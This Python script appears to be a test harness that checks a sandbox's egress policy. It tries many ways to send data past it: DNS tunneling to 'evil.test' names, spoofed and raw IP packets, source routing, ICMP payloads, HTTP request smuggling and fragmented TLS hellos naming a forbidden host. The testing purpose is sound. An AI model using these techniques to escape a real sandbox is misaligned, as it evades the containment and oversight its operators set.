"""What root in a sandbox tries in order to get past its policy. Runs inside: `python3 egress_attacks.py GROUP JSON`.

JSON names the addresses: `allowed` (the one that the policy allows, by name), `forbidden` (two that it does not), `resolver`, `host`. Each
attempt is bounded and told as a line of JSON, name and what came of it; whether something arrived is for the other side to say.
"""

import contextlib
import json
import random
import socket
import ssl
import struct
import sys
import time

ADDRESSES = json.loads(sys.argv[2]) if __name__ == "__main__" else {}
GOOD, BAD = "allowed.test", "bad.test"
IPPROTO_MPTCP, IP_HDRINCL, IP_TRANSPARENT, TCP_FASTOPEN_CONNECT = 262, 3, 19, 30
MARKS = (1, 2, 3, 0x53470001, 0x53470003, 0xFFFFFFFF)


def attempt(name, body):
    try:
        came = repr(body())
    except Exception as error:  # noqa: BLE001 - every refusal is an answer
        came = f"{type(error).__name__}: {error}"
    print(json.dumps([name, came[:200]]), flush=True)


def own_address():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.connect((ADDRESSES["allowed"], 5000))
        return probe.getsockname()[0]


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


# ---------------------------------------------------------------- names


def question(name, kind=1, raw=None, more=b"", flags=0x100, additional=0):
    encoded = raw if raw is not None else b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\0"
    head = struct.pack("!HHHHHH", random.randrange(65536), flags, 1, 0, 0, additional)
    return head + encoded + struct.pack("!HH", kind, 1) + more


def ask(message, server=None, port=53, stream=False):
    server = server or ADDRESSES["resolver"]
    if stream:
        with socket.create_connection((server, port), 1) as link:
            link.sendall(struct.pack("!H", len(message)) + message)
            return link.recv(512)[5] & 15
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
        link.settimeout(0.7)
        link.sendto(message, (server, port))
        return link.recv(512)[3] & 15


def names():
    for kind in (1, 2, 5, 6, 12, 15, 16, 28, 33, 35, 64, 65, 255, 65535):
        attempt(f"type {kind}", lambda: ask(question(f"leak{kind}.evil.test", kind)))
    attempt("below an allowed name", lambda: ask(question("x" * 60 + "." + GOOD)))
    attempt("by TCP", lambda: ask(question("leak-tcp.evil.test"), stream=True))
    attempt("a label with NUL", lambda: ask(question("", raw=b"\x0d" + GOOD.encode() + b"\0\0")))
    attempt("a label with a dot", lambda: ask(question("", raw=b"\x09evil.wild\x04test\0")))
    attempt("a pointer", lambda: ask(question("", raw=b"\x07allowed\xc0\x0c")))
    attempt("two questions", lambda: ask(question(GOOD, more=question("leak-two.evil.test")[12:])))
    option = struct.pack("!HHIH", 41, 4096, 0, 14) + struct.pack("!HH", 65001, 10) + b"leak-edns!"
    attempt("an EDNS option", lambda: ask(question(GOOD, more=b"\0" + option, additional=1)))
    for opcode in (4, 5):
        attempt(f"opcode {opcode}", lambda: ask(question(GOOD, flags=opcode << 11)))
    for server in ADDRESSES["forbidden"]:
        for stream in (False, True):
            attempt(f"of {server}", lambda: ask(question("leak-server.evil.test"), server, stream=stream))
        for port in (443, 853, 5353, 5000):
            attempt(f"of {server}:{port}", lambda: ask(question(GOOD), server, port))
    for server, port in (("127.0.0.53", 53), ("127.0.0.11", 53), ("169.254.1.1", 53), ("224.0.0.251", 5353), ("255.255.255.255", 67)):
        attempt(f"of {server}:{port}", lambda: ask(question("leak-local.evil.test"), server, port))
    for port in (853, 5353, 443):
        attempt(f"of the resolver at {port}", lambda: ask(question("leak-port.evil.test"), port=port))


# ---------------------------------------------------------------- packets


def packets():
    me = own_address()
    forbidden = ADDRESSES["forbidden"]
    for target in forbidden:
        for port in (22, 80, 443, 853, 5000, 8080):
            attempt(f"TCP {target}:{port}", lambda: socket.create_connection((target, port), 0.7).close())
            attempt(f"UDP {target}:{port}", lambda: datagram(target, port))
        attempt(f"fragments to {target}", lambda: datagram(target, 5000, b"f" * 5000))
        attempt(f"UDP-Lite to {target}", lambda: datagram(target, 5000, protocol=136))
        attempt(f"fast open to {target}", lambda: fast_open(target))
        for mark in MARKS:
            attempt(f"mark {mark:x} to {target}", lambda: datagram(target, 5000, options=[(1, 36, struct.pack("I", mark))]))
        for kind in (0, 3, 5, 8, 13, 17):
            attempt(f"ICMP {kind} to {target}", lambda: ping(target, kind))
        for source in ("10.254.0.2", ADDRESSES["allowed"], "169.254.1.1", "127.0.0.1"):
            attempt(f"from {source} to {target}", lambda: datagram(target, 5000, source=source))
        attempt(f"IPv4 in IPv6 to {target}", lambda: socket.socket(socket.AF_INET6).connect((f"::ffff:{target}", 80)))
    for via in (ADDRESSES["allowed"], *forbidden):
        for name, option in routes(forbidden[-1]).items():
            attempt(f"{name} by {via}", lambda: datagram(via, 5000, options=[(0, 4, option)]))
    for target in forbidden:
        for quoted in ((ADDRESSES["allowed"], me), (me, ADDRESSES["allowed"])):
            attempt("an error about another flow", lambda: ping(target, 3, inner(*quoted)))
    raw(me, forbidden)
    attempt("multipath TCP", lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, IPPROTO_MPTCP))
    attempt("vsock", lambda: socket.socket(40, socket.SOCK_STREAM))
    attempt("link", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0008))
    attempt("any protocol", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 255))


def datagram(target, port, data=b"leak", protocol=0, options=(), source=None):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, protocol) as link:
        link.settimeout(0.2)
        for option in options:
            link.setsockopt(*option)
        if source:
            link.setsockopt(0, IP_TRANSPARENT, 1)
            link.bind((source, 0))
        link.sendto(data, (target, port))
        return link.recv(100)


def fast_open(target):
    with socket.socket() as link:
        link.settimeout(0.7)
        link.sendto(b"GET /leak HTTP/1.0\r\n\r\n", socket.MSG_FASTOPEN, (target, 80))
        return link.recv(100)


def ping(target, kind, body=b"leak in a ping"):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as link:
        link.settimeout(0.2)
        bare = struct.pack("!BBHHH", kind, 0, 0, 77, 1) + body
        link.sendto(bare[:2] + struct.pack("!H", checksum(bare)) + bare[4:], (target, 0))
        return link.recv(100)


def inner(source, destination):
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 30, 1, 0, 64, 17, 0, socket.inet_aton(source), socket.inet_aton(destination))
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + struct.pack("!HHHH", 40001, 5000, 10, 0)


def routes(last):
    there = socket.inet_aton(last)
    return {"loose source route": bytes([0x83, 7, 4]) + there + b"\0", "strict source route": bytes([0x89, 7, 4]) + there + b"\0"}


def raw(me, forbidden):
    """Whole packets of our own making, where the kernel lets us."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as link:
        try:
            link.setsockopt(0, IP_HDRINCL, 1)
        except OSError as error:
            return print(json.dumps(["whole packets", f"{type(error).__name__}: {error}"]), flush=True)
        for target in forbidden:
            for protocol in (1, 4, 6, 17, 41, 47, 50, 132, 136, 253):
                head = struct.pack("!BBHHHBBH", 0x45, 0, 60, 1, 0, 64, protocol, 0) + socket.inet_aton(me) + socket.inet_aton(target)
                attempt(f"whole packet of {protocol}", lambda: link.sendto(head + b"leak" * 10, (target, 0)))


# ---------------------------------------------------------------- streams


def exchange(port, *parts, wait=0.05, prepare=None):
    """What an allowed address says to bytes that are sent in pieces; a callable is done in its turn."""
    with socket.socket() as link:
        link.settimeout(1)
        if prepare:
            prepare(link)
        link.connect((ADDRESSES["allowed"], port))
        link.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for part in parts:
            part(link) if callable(part) else link.sendall(part)
            time.sleep(wait)
        said = b""
        with contextlib.suppress(OSError):
            while part := link.recv(4096):
                said += part
        return said[:40]


def request(path, host, line="GET {} HTTP/1.1", end="\r\n"):
    return (line.format(path) + end + f"Host: {host}" + end + end).encode()


def streams():
    for port in (80, 8080):
        evil = request("/leak", BAD)
        attempt(f"{port} another host", lambda: exchange(port, evil))
        attempt(f"{port} byte by byte", lambda: exchange(port, *(bytes([byte]) for byte in evil), wait=0.005))
        attempt(f"{port} two hosts", lambda: exchange(port, f"GET /leak HTTP/1.1\r\nHost: {GOOD}\r\nHost: {BAD}\r\n\r\n".encode()))
        attempt(f"{port} absolute", lambda: exchange(port, request(f"http://{BAD}/leak", GOOD)))
        attempt(f"{port} absolute, user", lambda: exchange(port, request(f"http://{GOOD}@{BAD}/leak", GOOD)))
        attempt(f"{port} folded", lambda: exchange(port, f"GET /leak HTTP/1.1\r\nX: y\r\n Host: {GOOD}\r\nHost: {BAD}\r\n\r\n".encode()))
        attempt(f"{port} bare LF", lambda: exchange(port, request("/leak", BAD, end="\n")))
        attempt(f"{port} bare CR", lambda: exchange(port, f"GET /leak HTTP/1.1\r\nX: y\rHost: {GOOD}\r\nHost: {BAD}\r\n\r\n".encode()))
        attempt(f"{port} empty lines first", lambda: exchange(port, b"\r\n\r\n" + evil))
        attempt(f"{port} a space first", lambda: exchange(port, b" " + evil))
        attempt(f"{port} tabs", lambda: exchange(port, request("/leak", BAD, line="GET\t{}\tHTTP/1.1")))
        attempt(f"{port} small letters", lambda: exchange(port, request("/leak", BAD, line="get {} http/1.1")))
        attempt(f"{port} an odd method", lambda: exchange(port, request("/leak", BAD, line="PROPFIND {} HTTP/1.1")))
        attempt(f"{port} HTTP/0.9", lambda: exchange(port, b"GET /leak\r\n"))
        attempt(f"{port} CONNECT", lambda: exchange(port, request(f"{BAD}:443", f"{BAD}:443", line="CONNECT {} HTTP/1.1")))
        attempt(f"{port} urgent", lambda: exchange(port, b"G", lambda link: link.send(b"X", socket.MSG_OOB), evil[1:]))
        attempt(f"{port} small segments", lambda: exchange(port, evil, prepare=lambda link: link.setsockopt(6, socket.TCP_MAXSEG, 88)))
        attempt(f"{port} the PROXY protocol", lambda: exchange(port, b"PROXY TCP4 1.1.1.1 2.2.2.2 1 2\r\n" + evil))
        attempt(f"{port} late", lambda: exchange(port, lambda _: time.sleep(0.5), evil))
    far, near = (lambda link, ttl=ttl: link.setsockopt(0, socket.IP_TTL, ttl) for ttl in (64, 1))
    attempt("a decoy that dies on the way", lambda: exchange(80, near, request("/decoy", GOOD), far, request("/leak", BAD), wait=0.2))
    attempt("a second request", lambda: exchange(80, request("/fine", GOOD), request("/leak", BAD), wait=0.2))
    attempt("a second request at once", lambda: exchange(80, request("/fine", GOOD) + request("/leak", BAD)))
    attempt("a body that hides one", lambda: exchange(
        80, f"POST /fine HTTP/1.1\r\nHost: {GOOD}\r\nContent-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n".encode() + request("/leak", BAD)
    ))
    attempt("multipath", lambda: multipath(request("/leak", BAD)))
    for sni in (BAD, None):
        attempt(f"TLS for {sni}", lambda: hello_in_pieces(sni, [16384], 2000))
        attempt(f"TLS for {sni} in small records", lambda: hello_in_pieces(sni, [1], 7))
        attempt(f"TLS for {sni} in odd records", lambda: hello_in_pieces(sni, [4, 1000], 2000))


def multipath(first):
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, IPPROTO_MPTCP) as link:
        link.settimeout(1)
        link.connect((ADDRESSES["allowed"], 8080))
        link.sendall(first)
        return link.recv(40)


def hello_in_pieces(sni, records, segment):
    """A client hello whose handshake message is cut into records, sent in segments."""
    context = ssl._create_unverified_context()
    context.check_hostname = False
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    with contextlib.suppress(ssl.SSLWantReadError):
        context.wrap_bio(incoming, outgoing, server_hostname=sni).do_handshake()
    whole = outgoing.read()
    body, cut, turn = whole[5:], b"", 0
    while body:
        size = min(records[min(turn, len(records) - 1)], len(body))
        cut, body, turn = cut + whole[:3] + struct.pack("!H", size) + body[:size], body[size:], turn + 1
    with socket.create_connection((ADDRESSES["allowed"], 443), 1) as link:
        for at in range(0, len(cut), segment):
            link.sendall(cut[at : at + segment])
            time.sleep(0.001)
        return link.recv(5)


if __name__ == "__main__":
    {"names": names, "packets": packets, "streams": streams}[sys.argv[1]]()
